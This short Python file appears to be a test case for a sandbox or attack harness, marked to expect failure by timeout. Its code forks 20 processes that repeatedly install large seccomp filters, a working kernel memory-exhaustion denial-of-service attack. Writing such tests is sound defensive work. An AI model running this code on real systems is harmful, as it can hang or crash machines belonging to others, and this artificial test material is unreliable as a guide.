# expect: fail
# verdict: exception timeout
# class: h
# why: filters of system calls, whose code is the kernel's memory and is given back later by a thread of the kernel
import ctypes
import os
import struct

libc = ctypes.CDLL(None)
allow = struct.pack("=HBBI", 0x06, 0, 0, 0x7FFF0000)
load = struct.pack("=HBBI", 0x20, 0, 0, 0)


def install():
    code = ctypes.create_string_buffer(load * 4000 + allow)
    program = struct.pack("=HxxxxxxQ", 4001, ctypes.addressof(code))
    held = ctypes.create_string_buffer(program)
    return libc.prctl(22, 2, held, 0, 0)


libc.prctl(38, 1, 0, 0, 0)
for _ in range(20):
    if not os.fork():
        while install() == 0:
            pass
        os._exit(0)


def runs(text):
    raise RuntimeError("no attack has worked")
